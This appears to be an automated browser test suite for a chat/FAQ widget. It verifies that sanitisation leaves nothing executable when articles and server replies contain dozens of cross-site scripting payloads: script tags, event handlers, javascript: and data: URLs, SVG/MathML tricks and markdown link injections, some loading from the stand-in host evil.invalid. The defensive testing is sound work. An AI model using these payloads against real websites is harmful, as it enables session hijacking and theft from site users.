// Articles that try to run script in every known way, shown by the widget: nothing comes alive. Once through the
// server, which sanitizes, and once as if it did not.

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ask, host, open, parts, serve, test } from './harness.mjs';

// Each does `alive()`, loads from evil.invalid, or reaches out of its place.
const ATTACKS = [
  '<script>alive()</script>',
  '<ScRiPt src=//evil.invalid/x.js></sCrIpT>',
  '<scr<script>ipt>alive()</scr</script>ipt>',
  '<img src=x onerror=alive()>',
  '<img src="https://evil.invalid/x" onload="alive()" onerror="alive()">',
  '<img/src=`x`/onerror=alive()>',
  '<img src=x:x onerror\n=alive()>',
  '<IMG """><SCRIPT>alive()</SCRIPT>">',
  '<svg onload=alive()>',
  '<svg><script>alive()</script></svg>',
  '<svg><animate onbegin=alive() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alive()"><text y=20>go</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alive()>#x"/></svg>',
  '<svg><style><img src=x onerror=alive()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alive()&gt;">',
  '<math><mi//xlink:href="data:x,<script>alive()</script>">',
  '<math href="javascript:alive()">go</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alive()>',
  '<noscript><p title="</noscript><img src=x onerror=alive()>">',
  '<template><img src=x onerror=alive()></template>',
  '<a href="javascript:alive()">go</a>',
  '<a href=" &#14; javascript:alive()">go</a>',
  '<a href="jav&#x09;ascript:alive()">go</a>',
  '<a href="JaVaScRiPt:alive()">go</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alive()">go</a>',
  '<a href="vbscript:alive()">go</a>',
  '<a href="data:text/html,<script>opener.alive()</script>">go</a>',
  '<a href="blob:https://evil.invalid/x">go</a>',
  '<a href="https://evil.invalid/" onclick="alive()" onfocus="alive()" autofocus tabindex=1 ping="https://evil.invalid/ping">go</a>',
  '<iframe src="javascript:parent.alive()"></iframe>',
  '<iframe srcdoc="<script>parent.alive()</script>"></iframe>',
  '<object data="javascript:alive()"></object>',
  '<object data="data:text/html,<script>parent.alive()</script>"></object>',
  '<embed src="javascript:alive()">',
  '<embed src="//evil.invalid/x.swf" allowscriptaccess=always>',
  '<applet code="Alive.class"></applet>',
  '<link rel=stylesheet href="//evil.invalid/x.css">',
  '<link rel=import href="data:text/html,<script>alive()</script>">',
  '<style>@import "//evil.invalid/x.css"; * { background: url(//evil.invalid/y) }</style>',
  '<div style="background:url(//evil.invalid/z);position:fixed;inset:0">cover</div>',
  '<p style="width:expression(alive())">x</p>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=javascript:alive()">',
  '<form action="javascript:alive()"><button>go</button></form>',
  '<button formaction="javascript:alive()" onclick=alive()>go</button>',
  '<input onfocus=alive() autofocus>',
  '<input type=image src=x onerror=alive()>',
  '<select onfocus=alive() autofocus></select>',
  '<textarea onfocus=alive() autofocus></textarea>',
  '<keygen onfocus=alive() autofocus>',
  '<video src=x onerror=alive()><source onerror=alive()></video>',
  '<audio src=x onerror=alive()></audio>',
  '<video poster=javascript:alive()></video>',
  '<details open ontoggle=alive()><summary>go</summary></details>',
  '<body onload=alive()>',
  '<marquee onstart=alive()>x</marquee>',
  '<isindex action=javascript:alive() type=image>',
  '<table background="javascript:alive()"><td background="javascript:alive()">x</td></table>',
  '<div onpointerenter=alive() onmouseover=alive() onwheel=alive()>x</div>',
  '<p onanimationstart=alive() style="animation: rise 1s">x</p>',
  '<p class="panel send hidden" part="launcher" id="question" slot="x">x</p>',
  '<x-y onclick=alive() is="polyfaq-chat">x</x-y>',
  '<polyfaq-chat inline server="https://evil.invalid/"></polyfaq-chat>',
  '<xmp><img src=x onerror=alive()></xmp>',
  '<plaintext hidden><img src=x onerror=alive()>',
  '<!--[if gte IE 4]><script>alive()</script><![endif]-->',
  '<!--><img src=x onerror=alive()>-->',
  '<?xml-stylesheet href="javascript:alive()"?>',
  '<![CDATA[<img src=x onerror=alive()>]]>',
  '<frameset onload=alive()><frame src="javascript:alive()"></frameset>',
  `${'<div>'.repeat(3000)}<img src=x onerror=alive()>`,
];
const MARKDOWN = [
  '[go](javascript:alive())',
  '[go](JAVASCRIPT&colon;alive())',
  '[go](<java\nscript:alive()>)',
  '[go](data:text/html;base64,PHNjcmlwdD5hbGl2ZSgpPC9zY3JpcHQ+)',
  '[go](vbscript:alive())',
  '[go][ref]\n\n[ref]: javascript:alive() "x"',
  '![x](javascript:alive())',
  '![x"onerror="alive()](x)',
  '![x](https://evil.invalid/"onerror="alive())',
  '<javascript:alive()>',
  '[go](https://good.example/"onclick="alive())',
  '```html onload=alive()\n<script>alive()</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alive()> |',
  '> [!NOTE]\n> <img src=x onerror=alive()>',
  'text[^1]\n\n[^1]: <img src=x onerror=alive()>',
];

/** What of the widget is, or could be made, alive. */
const living = (page) =>
  page.evaluate(() => {
    const root = document.querySelector('polyfaq-chat').shadowRoot;
    const found = [];
    for (const node of root.querySelectorAll('.panel *')) {
      if (/^(script|iframe|frame|object|embed|applet|link|style|base|meta|template|math|video|audio|source|textarea)$|-/.test(node.localName)) found.push(node.localName);
      if (node.matches('.text *') && /^(form|input|button|select|svg|path)$/.test(node.localName)) found.push(`${node.localName} in an answer`);
      for (const { name, value } of node.attributes) {
        if (/^on|^style$|^srcdoc$|^ping$|^formaction$|^background$|^xlink|^is$|^slot$/.test(name)) found.push(name);
        if (/^(href|src)$/.test(name) && !/^(https?|mailto|tel):/.test(value)) found.push(`${name}=${value}`);
        if (node.matches('.text *') && /^(id|part)$/.test(name)) found.push(`${name} in an answer`);
      }
    }
    return { found, alive: globalThis.count };
  });

/** Opens a page on which whatever comes alive is counted, asks each question, and presses what can be pressed. */
async function survive(server, questions, prepare) {
  const page = await open();
  const reached = [];
  page.on('dialog', (dialog) => dialog.dismiss());
  page.on('request', (request) => /evil\.invalid/.test(request.url()) && request.resourceType() !== 'image' && reached.push(request.url()));
  await page.route(/evil\.invalid/, (route) => route.fulfill({ contentType: 'text/javascript', body: 'alive()' }));
  await page.addInitScript(() => {
    globalThis.count = 0;
    globalThis.alive = () => (globalThis.count += 1);
  });
  await prepare?.(page);
  await host(page, server);
  await parts(page).launcher.click();
  for (const question of questions) await ask(page, question);
  for (const link of await page.locator('polyfaq-chat .text a').all()) {
    await link.evaluate((node) => {
      node.addEventListener('click', (event) => event.preventDefault());
      node.dispatchEvent(new MouseEvent('pointerenter'));
      node.focus();
      node.click();
    });
  }
  await page.waitForTimeout(300);
  assert.deepEqual(await living(page), { found: [], alive: 0 });
  assert.deepEqual(reached, []);
  assert.ok(await parts(page).input.isVisible(), 'the widget is still itself');
  return page;
}

test('hostile articles show nothing alive', async () => {
  const corpus = mkdtempSync(join(tmpdir(), 'polyfaq-hostile-'));
  const folder = join(corpus, 'en-us');
  mkdirSync(folder);
  const section = (attack, i, mark) => `## How to tame beast ${mark}${i}?\n\nBeast ${mark}${i} is tamed thus.\n\n${attack}\n\nBeast ${mark}${i} is tame.\n`;
  writeFileSync(join(folder, 'beasts.md'), `# Beasts\n\n${[...ATTACKS, ...MARKDOWN].map((attack, i) => section(attack, i, 'md')).join('\n')}`);
  const page = (attack, i) => `<!doctype html><title>Cage ${i}</title><h1>Cage ${i}</h1><h2>How to lock cage htm${i}?</h2><p>Cage htm${i} is locked thus.</p>${attack}<p>Cage htm${i} is locked.</p>`;
  ATTACKS.forEach((attack, i) => writeFileSync(join(folder, `cage${i}.html`), page(attack, i)));
  writeFileSync(join(folder, 'titles.md'), '---\ntitle: "<img src=x onerror=alive()>"\n---\n\n# <img src=x onerror=alive()>\n\n## What is <svg onload=alive()> for?\n\nNothing that titles can do.\n');
  try {
    const server = await serve(corpus);
    const beasts = [...ATTACKS, ...MARKDOWN].map((_, i) => `How to tame beast md${i}?`);
    const cages = ATTACKS.map((_, i) => `How to lock cage htm${i}?`);
    const half = await survive(server, [...beasts, 'What is <svg onload=alive()> for?']);
    assert.ok((await half.locator('polyfaq-chat .card').count()) > beasts.length / 2, 'the answers were shown');
    await half.context().close();
    await survive(server, cages);
  } finally {
    rmSync(corpus, { recursive: true, force: true });
  }
});

test('words, questions and suggestions are text, whatever is in them', async () => {
  const server = await serve();
  const attack = '"><img src=x onerror=alive()><script>alive()</script>';
  const item = { id: attack, question: attack, language: attack, source: { url: 'javascript:alive()', title: attack } };
  const page = await survive(server, [attack], async (page) => {
    await page.route('**/v1/widget?*', async (route) => {
      const words = await (await route.fetch()).json();
      for (const id in words.strings) words.strings[id] = attack;
      await route.fulfill({ json: { ...words, language: attack, direction: attack, languages: [{ code: attack, name: attack }], examples: [item] } });
    });
    await page.route('**/v1/suggest?*', (route) => route.fulfill({ json: { suggestions: [item] } }));
  });
  await parts(page).input.pressSequentially('what');
  await parts(page).options.first().waitFor();
  assert.equal(await parts(page).options.first().innerText(), attack);
  assert.equal(await page.locator('polyfaq-chat h2').innerText(), attack);
  assert.deepEqual(await living(page), { found: [], alive: 0 });
});

test('even what a server did not sanitize shows nothing alive', async () => {
  const server = await serve();
  const all = [...ATTACKS, ...MARKDOWN];
  const answer = (html) => ({
    id: html, question: html, html, language: '"><img src=x onerror=alive()>', notices: [html], translated: null,
    translations: [{ language: 'en', url: 'javascript:alive()', title: html }],
    source: { article: html, anchor: '', title: html, url: 'javascript:alive()', updated: html },
  });
  let at = 0;
  await survive(server, all.map((_, i) => `${i}`), (page) =>
    page.route('**/v1/chat', (route) => {
      const html = all[at++ % all.length];
      const offers = [{ id: html, question: html, language: html, source: {} }];
      return route.fulfill({ json: { status: 'answer', reply: html, language: { code: 'en' }, answers: [answer(html)], suggestions: offers, related: offers, context: '' } });
    }));
});
